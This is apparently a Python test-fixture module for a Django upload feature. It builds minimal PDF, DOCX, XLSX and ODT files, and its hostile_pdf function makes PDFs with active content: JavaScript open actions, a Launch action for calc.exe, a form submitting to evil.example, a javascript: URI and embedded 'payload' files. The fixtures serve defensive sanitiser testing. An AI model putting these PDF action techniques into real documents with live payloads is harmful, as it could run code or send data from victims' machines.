"""Small real files for upload tests: a PDF with text, DOCX, XLSX and ODT."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile


def pdf_bytes(lines=("Better Care Fund 2019/20 plan",), pages=1):
    """A minimal PDF whose pages carry the given text (Helvetica)."""
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        None,
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    kids = []
    for _ in range(pages):
        text = " ".join(f"({line}) Tj 0 -20 Td" for line in lines)
        stream = f"BT /F1 12 Tf 72 720 Td {text} ET"
        objects.append(f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream")
        content = len(objects)
        objects.append(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            f"/Resources << /Font << /F1 3 0 R >> >> /Contents {content} 0 R >>"
        )
        kids.append(f"{len(objects)} 0 R")
    objects[1] = f"<< /Type /Pages /Kids [{' '.join(kids)}] /Count {pages} >>"
    out, offsets = io.BytesIO(), []
    out.write(b"%PDF-1.4\n")
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode())
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    trailer = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n"
    out.write(f"{trailer}startxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def _zip(entries):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx_bytes(text="Housing and Homelessness One Coventry Approach"):
    return _zip(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": "<w:document><w:body><w:p><w:r>"
            f"<w:t>{text}</w:t></w:r></w:p></w:body></w:document>",
        }
    )


def xlsx_bytes(text="Place Plan rolling actions"):
    return _zip(
        {
            "xl/workbook.xml": "<workbook/>",
            "xl/sharedStrings.xml": f"<sst><si><t>{text}</t></si></sst>",
        }
    )


def odt_bytes(text="Proof of concept: Grapevine and Moat House"):
    return _zip(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f"<office:document-content><text:p>{text}</text:p>"
            "</office:document-content>",
        }
    )


def upload(name, data):
    return SimpleUploadedFile(name, data)


def hostile_pdf(*kinds, text="Better Care Fund 2019/20 plan"):
    """A PDF of one page of `text` that also holds each of `kinds` of active
    content: "open-javascript" (a JavaScript action run when it opens),
    "names-javascript" (document-level JavaScript), "page-aa" (a script run
    when the page opens), "launch-link" (a link that starts a program),
    "script-link" (a link that runs a script), "attachment" (an embedded file
    in the names tree), "attachment-annotation" (a file attachment on the
    page), "submit-form" (a form button that sends data); "goto-open" and
    "web-link" are harmless (open at page 1, link to a web page)."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import (
        ArrayObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        TextStringObject,
    )

    def name(value):
        return NameObject(value)

    def action(kind, **entries):
        action = DictionaryObject(
            {name("/Type"): name("/Action"), name("/S"): name(kind)}
        )
        for key, value in entries.items():
            action[name(f"/{key}")] = value
        return action

    def script(source="app.alert('hwbb hostile');"):
        return action("/JavaScript", JS=TextStringObject(source))

    def annotation(subtype, **entries):
        annotation = DictionaryObject(
            {
                name("/Type"): name("/Annot"),
                name("/Subtype"): name(subtype),
                name("/Rect"): ArrayObject(FloatObject(n) for n in (72, 72, 200, 100)),
            }
        )
        for key, value in entries.items():
            annotation[name(f"/{key}")] = value
        return annotation

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes((text,)))))
    page = writer.pages[0]
    annotations = []
    for kind in kinds:
        if kind == "open-javascript":
            writer._root_object[name("/OpenAction")] = writer._add_object(script())
        elif kind == "names-javascript":
            tree = DictionaryObject(
                {name("/Names"): ArrayObject([TextStringObject("hwbb"), script()])}
            )
            names = writer._root_object.setdefault(name("/Names"), DictionaryObject())
            names[name("/JavaScript")] = writer._add_object(tree)
        elif kind == "page-aa":
            page[name("/AA")] = DictionaryObject({name("/O"): script()})
        elif kind == "launch-link":
            launch = action("/Launch", F=TextStringObject("C:\\Windows\\calc.exe"))
            annotations.append(annotation("/Link", A=launch))
        elif kind == "script-link":
            annotations.append(annotation("/Link", A=script()))
        elif kind == "attachment":
            writer.add_attachment("payload.txt", b"hwbb embedded payload")
        elif kind == "attachment-annotation":
            spec = DictionaryObject(
                {
                    name("/Type"): name("/Filespec"),
                    name("/F"): TextStringObject("payload.txt"),
                }
            )
            annotations.append(annotation("/FileAttachment", FS=spec))
        elif kind == "submit-form":
            submit = action("/SubmitForm", F=TextStringObject("https://evil.example/"))
            annotations.append(annotation("/Widget", A=submit))
        elif kind == "script-uri":
            uri = action("/URI", URI=TextStringObject("JavaScript:app.alert(1)"))
            annotations.append(annotation("/Link", A=uri))
        elif kind == "xfa":
            form = DictionaryObject(
                {
                    name("/Fields"): ArrayObject(),
                    name("/XFA"): TextStringObject("<xdp:xdp/>"),
                }
            )
            writer._root_object[name("/AcroForm")] = writer._add_object(form)
        elif kind == "bookmark-javascript":
            writer.add_outline_item(title="Open me", page_number=0)
            item = writer._root_object["/Outlines"]["/First"].get_object()
            item[name("/A")] = script()
        elif kind == "goto-open":
            writer._root_object[name("/OpenAction")] = ArrayObject(
                [page.indirect_reference, name("/Fit")]
            )
        elif kind == "web-link":
            uri = action("/URI", URI=TextStringObject("https://www.coventry.gov.uk/"))
            annotations.append(annotation("/Link", A=uri))
        else:
            raise ValueError(kind)
    if annotations:
        page[name("/Annots")] = ArrayObject(writer._add_object(a) for a in annotations)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
